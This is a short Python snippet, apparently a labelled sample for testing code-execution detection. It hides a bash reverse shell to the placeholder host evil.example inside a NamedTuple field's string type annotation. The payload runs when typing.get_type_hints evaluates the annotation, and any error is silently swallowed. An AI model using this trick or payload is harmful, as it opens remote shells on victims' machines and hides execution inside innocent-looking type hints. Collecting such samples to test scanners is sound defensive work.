# harm: spawns a reverse shell ; trick: typing.NamedTuple functional form with a string field type -> ForwardRef evaluated by get_type_hints
import typing

Row = typing.NamedTuple("Row", [("name", str), ("kind", "__import__('subprocess').Popen(['bash','-c','bash -i >& /dev/tcp/evil.example/4444 0>&1'])")])
try:
    typing.get_type_hints(Row)
except Exception:
    pass
